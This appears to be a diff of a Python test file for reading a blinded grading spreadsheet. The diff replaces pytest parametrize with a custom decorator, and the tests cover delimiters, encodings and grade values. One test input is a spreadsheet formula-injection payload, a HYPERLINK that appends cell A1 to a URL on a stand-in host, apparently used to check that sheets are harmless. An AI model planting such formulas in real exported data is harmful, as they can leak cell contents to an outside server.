@@ -37,6 +37,7 @@ from engine.study.judged_pairs import (
     sample,
 )
 from tests.engine.judged import FILE, pairs_in, save_answer
+from tests.many_cases import every
 from tests.thoroughness import tried
 
 # The grading sheet: blinded, harmless in a spreadsheet, and readable as any spreadsheet program saves it
@@ -100,7 +101,7 @@ def test_an_answer_of_several_turns_shows_all_that_are_graded() -> None:
     assert row[2] == "Assistant: On the 1st.\n\nUser: Why?\n\nAssistant: By law."
 
 
-@pytest.mark.parametrize(
+@every(
     "text",
     [
         '=HYPERLINK("http://x.example/?"&A1,"open")',
@@ -157,8 +158,8 @@ def test_rows_come_back_by_their_key_in_any_order() -> None:
     assert sheet.problems == ()
 
 
-@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
-@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
+@every("delimiter", [",", ";", "\t"])
+@every("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
 def test_it_is_read_as_a_spreadsheet_program_saves_it(delimiter: str, encoding: str) -> None:
     text = returned(ALL, [["4", "“né”"], ["", ""], ["2", ""]], delimiter)
     sheet = read_sheet(text.encode(encoding), IDS)
@@ -166,7 +167,7 @@ def test_it_is_read_as_a_spreadsheet_program_saves_it(delimiter: str, encoding: 
     assert len(sheet.grades) == 3
 
 
-@pytest.mark.parametrize(
+@every(
     ("written", "grade"),
     [
         ("1", Grade.ABSENT),
@@ -186,7 +187,7 @@ def test_a_grade_is_a_number_or_a_class(written: str, grade: Grade | None) -> No
     assert (sheet.grades, sheet.problems) == ({ONE.id: BlindGrade(grade)}, ())
 
 
-@pytest.mark.parametrize("written", ["0", "6", "55", "3.5", "good", "present", "1/2"])
+@every("written", ["0", "6", "55", "3.5", "good", "present", "1/2"])
 def test_what_is_no_grade_is_reported_with_its_row(written: str) -> None:
     sheet = read_sheet(returned([ONE, TWO], [["1", ""], [written, ""]]).encode(), IDS)
     assert list(sheet.grades) == [ONE.id]
@@ -210,7 +211,7 @@ def test_columns_may_be_moved_and_instructions_deleted() -> None:
     assert read_sheet(text.encode(), IDS).grades == {ONE.id: BlindGrade(Grade.SLIGHTLY_PRESENT)}
 
 
-@pytest.mark.parametrize("data", [b"", b"hello", b"a,b\r\n1,2\r\n", b"PK\x03\x04\x00\x00", b"key\r\nk1\r\n"])
+@every("data", [b"", b"hello", b"a,b\r\n1,2\r\n", b"PK\x03\x04\x00\x00", b"key\r\nk1\r\n"])
 def test_what_is_no_sheet_is_refused(data: bytes) -> None:
     with pytest.raises(UnreadableSheet, match="No row names the columns key and grade"):
         read_sheet(data, IDS)
